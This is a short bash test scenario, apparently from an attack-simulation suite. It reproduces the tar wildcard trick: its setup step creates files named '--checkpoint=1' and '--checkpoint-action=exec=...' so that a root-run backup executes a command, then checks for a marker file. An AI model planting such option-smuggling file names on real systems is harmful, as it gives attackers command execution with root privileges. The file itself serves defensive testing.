# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.004
about="GTFOBins: file names that are options, --checkpoint-action=exec"
before() { touch $data/--checkpoint=1 "$data/--checkpoint-action=exec=touch \$HOME-was-here"; }
attack() { tell backup; }
effect() { [ -e /root-was-here ]; }
after() { rm -f $data/--* /root-was-here; }
